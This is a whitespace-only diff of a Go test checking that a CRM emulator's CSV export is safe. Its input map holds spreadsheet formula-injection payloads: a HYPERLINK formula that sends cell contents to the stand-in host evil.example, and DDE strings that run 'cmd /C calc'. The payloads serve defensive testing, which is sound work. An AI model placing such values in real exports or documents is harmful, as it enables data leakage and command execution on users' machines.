@@ -94,12 +94,12 @@ func TestCSVExportIsSafe(t *testing.T) {
 	ids := e.emu.OrderIDs(crmemu.DemoKey)
 	hostile := map[string]string{
 		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "",
-		"+1+cmd|' /C calc'!A0":                             "",
-		"-2+3":                                             "",
-		"@SUM(1+1)*cmd|' /C calc'!A0":                      "",
-		"\t=1+1":                                           "",
-		"\r=1+1":                                           "",
-		"Позвонить, \"домофон\" 12\nвторая строка":           "",
+		"+1+cmd|' /C calc'!A0":                               "",
+		"-2+3":                                               "",
+		"@SUM(1+1)*cmd|' /C calc'!A0":                        "",
+		"\t=1+1":                                             "",
+		"\r=1+1":                                             "",
+		"Позвонить, \"домофон\" 12\nвторая строка": "",
 	}
 	i := 0
 	for v := range hostile {
